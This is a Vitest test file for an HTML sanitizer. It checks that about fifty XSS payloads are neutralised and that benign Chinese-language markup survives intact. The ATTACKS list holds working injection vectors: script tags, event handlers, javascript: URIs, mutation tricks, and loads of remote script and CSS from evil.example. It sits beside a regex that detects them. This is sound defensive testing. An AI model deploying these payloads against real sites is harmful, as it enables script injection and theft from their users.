import { describe, expect, it } from 'vitest';
import { cleanHtml, documentText, escapeHtml, paragraphs, plainText } from './html.ts';

const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="//evil.example/x.png">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="/files/../admin">',
  '<img src="/files/%2e%2e/admin">',
  '<img """><script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/" onclick="alert(1)">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext></table></math><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<body onload=alert(1)>x</body>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>@import "http://evil.example/x.css";</style>',
  '<link rel=stylesheet href="http://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<p title="><img src=x onerror=alert(1)>">x</p>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<td colspan="1 onclick=alert(1)">x</td>',
  '<p id="location" name="forms">x</p>',
];

describe('attacks', () => {
  it.each(ATTACKS)('takes the sting out of %s', (attack) => {
    const clean = cleanHtml(`<p>before</p>${attack}<p>after</p>`);
    const tags = clean.match(/<[^>]*>/g)?.join('') ?? '';
    expect(tags).not.toMatch(
      /script|javascript|data:|vbscript|evil|\son\w+=|style|srcdoc|<(?:svg|math|iframe|object|embed|form|input|link|meta|base|img)/i,
    );
    expect(tags).not.toMatch(/\sid=|\sname=|colspan|\.\./);
    expect(clean).toContain('<p>before</p>');
    expect(cleanHtml(clean)).toBe(clean);
  });
});

describe('clean HTML', () => {
  it.each([
    '<h2>一、总则</h2><p>为了<strong>规范</strong>，<em>便利</em>，<u>公开</u>，H<sub>2</sub>O，m<sup>2</sup>。</p>',
    '<ul><li>甲</li><li>乙</li></ul><ol start="3"><li>丙</li></ol>',
    '<table><caption>表</caption><colgroup><col width="40%" /><col span="2" width="30%" /></colgroup><thead><tr><th scope="col" colspan="2">项</th></tr></thead><tbody><tr><td rowspan="2">1</td><td>2</td></tr></tbody></table>',
    '<p><a href="https://example.gov.cn/a?b=1&amp;c=2">甲</a><a href="mailto:a@example.gov.cn">乙</a><a href="/doc/1">丙</a></p>',
    '<blockquote><p>引</p></blockquote><hr />',
    '<p><img src="/files/ab12/图.png" alt="图" width="10" height="20" /></p>',
  ])('keeps %s', (html) => expect(cleanHtml(html)).toBe(html));

  it('keeps the text of what it drops', () => {
    expect(cleanHtml('<font color=red>红</font><span onclick=x>黑</span><b>粗</b>')).toBe('红黑<strong>粗</strong>');
  });
});

describe('plain text', () => {
  it('has a line for each block and a tab between cells', () => {
    const html =
      '<h2>题</h2><p>甲&amp;乙<br>丙 &lt;丁&gt;</p><table><tr><td>一</td><td></td><td>三</td></tr><tr><td>四</td></tr></table>尾';
    expect(paragraphs(html)).toEqual(['题', '甲&乙', '丙 <丁>', '一\t\t三', '四', '尾']);
    expect(plainText('<p>甲\n乙</p>\n<p> </p>')).toBe('甲 乙');
  });

  it('shows an escaped text as it was', () => {
    const text = '<script>&amp;"\' 1 < 2 && 3 > 2';
    expect(plainText(`<p>${escapeHtml(text)}</p>`)).toBe(text);
  });

  it('begins with the title when a document is checked', () => expect(documentText('题', '<p>文</p>')).toBe('题\n文'));
});
